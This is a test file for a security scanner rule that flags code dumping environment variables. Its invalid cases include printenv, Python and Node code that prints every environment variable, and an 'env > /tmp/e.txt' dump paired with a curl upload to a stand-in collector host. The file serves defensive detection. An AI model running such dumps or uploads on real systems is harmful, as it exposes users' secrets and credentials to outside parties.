import { envDump } from '../../../src/scan/rules/env-dump.ts';
import { testRule } from '../rule-tester.ts';
import { declaringEnv, js, manifest, py, sh } from './common/skills.ts';

testRule(envDump, {
  valid: [
    { name: 'reads one declared variable', files: { ...manifest(declaringEnv('NOTION_TOKEN')), ...py("import os\nt = os.environ['NOTION_TOKEN']") } },
    { name: 'node reads one variable', files: js('const port = process.env.PORT || 3000;') },
    { name: 'shell uses HOME', files: sh('echo "$HOME"') },
  ],
  invalid: [
    { name: 'printenv while debugging', files: sh('printenv'), errors: [{ messageId: 'dump', severity: 'low' }] },
    { name: 'python dumps os.environ', files: py("import os, json\nprint(json.dumps(dict(os.environ)))"), errors: [{ messageId: 'dump' }] },
    { name: 'node stringifies process.env', files: js('console.log(JSON.stringify(process.env));'), errors: [{ messageId: 'dump' }] },
    {
      name: 'env dump with a foreign upload in another file',
      files: { ...sh('env > /tmp/e.txt'), ...sh('curl -d "ping=1" https://collector.example/p', 'scripts/u.sh') },
      errors: [{ messageId: 'dumpWithSend', severity: 'medium' }],
    },
  ],
});
